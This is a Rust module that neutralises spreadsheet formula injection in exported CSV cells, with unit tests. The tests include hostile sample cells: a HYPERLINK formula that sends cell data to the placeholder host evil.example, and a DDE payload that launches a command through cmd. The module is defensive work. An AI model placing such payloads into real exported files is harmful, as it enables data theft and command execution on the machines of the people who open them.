//! Cells of CSV files people open in a spreadsheet.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and one
//! that starts with a tab or a carriage return may be trimmed into one (OWASP, "CSV
//! Injection"). A client's transfer reference or a reviewer's comment could then run a
//! formula on an officer's machine, or send the sheet's data to a web address. Every exported
//! cell passes through [`neutralise_cell`]: such a cell gets a leading `'`, which spreadsheets
//! show as text and never evaluate. A plain number (`-12.50`) is left as it is: it is no
//! formula, and a negative balance must stay a number.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (or trim it into one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet will show it as text: prefixed with `'` when it would start a
/// formula, unchanged otherwise.
pub fn neutralise_cell(cell: &str) -> Cow<'_, str> {
    let starts_a_formula = cell.starts_with(FORMULA_STARTS);
    if starts_a_formula && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A sign, digits and at most one decimal point with digits on each side: `-12.50`, `+3`.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell
        .strip_prefix('-')
        .or_else(|| cell.strip_prefix('+'))
        .unwrap_or(cell);
    let mut parts = unsigned.splitn(2, '.');
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    match (parts.next(), parts.next()) {
        (Some(whole), None) => digits(whole),
        (Some(whole), Some(fraction)) => digits(whole) && digits(fraction),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_starts_a_formula_is_shown_as_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "=",
        ] {
            assert_eq!(neutralise_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_stay_as_they_are() {
        for cell in [
            "",
            "Payment for March",
            "a=b",
            "-12.50",
            "+3",
            "12.50",
            "2024-01-01",
        ] {
            assert_eq!(neutralise_cell(cell), cell, "{cell:?}");
        }
    }
}
